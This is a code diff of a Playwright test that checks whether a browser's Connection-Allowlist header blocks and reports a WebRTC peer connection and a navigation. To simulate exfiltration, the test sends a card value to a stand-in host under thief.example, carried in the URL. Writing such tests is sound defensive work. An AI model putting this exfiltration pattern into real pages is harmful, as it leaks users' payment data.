@@ -83,18 +83,27 @@ test("a module that is refused by its hash is reported with its name", async ({ 
   }
 });
 
-test("a navigation that Connection-Allowlist stops is reported", async ({ page, spare, browser }) => {
+test("what Connection-Allowlist alone stops is reported: a peer connection, a navigation", async ({ page, spare, browser }) => {
   test.skip(lacksAllowlist(browser.version()), "this browser has no Connection-Allowlist");
   const site = await SecureSite.start(spare);
   try {
     const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as { fields: { frame: { file: string } } };
     const address = `${site.fields}/${fields.frame.file}`;
     await page.goto(address);
+    await page.evaluate(async () => {
+      const peer = new RTCPeerConnection();
+      peer.createDataChannel("x");
+      await peer.setLocalDescription().catch(() => {});
+    });
     // Out of the call: where it leads, nothing comes back from
     await page.evaluate((card) => void setTimeout(() => (location.href = `https://${card}.thief.example/${card}?${card}`)), CARD);
-    await expect
-      .poll(async () => (await site.reports()).find(({ type }) => type === "connection-allowlist"), { timeout: 20_000 })
-      .toMatchObject({ page: address, source: "https://*.thief.example" });
+    const stopped = async (): Promise<unknown[]> => (await site.reports()).filter(({ type }) => type === "connection-allowlist");
+    await expect.poll(stopped, { timeout: 20_000 }).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ page: address, source: "webrtc" }),
+        expect.objectContaining({ page: address, source: "https://*.thief.example" }),
+      ]),
+    );
     expect(JSON.stringify(await site.reports())).not.toContain(CARD);
   } finally {
     await site.stop();
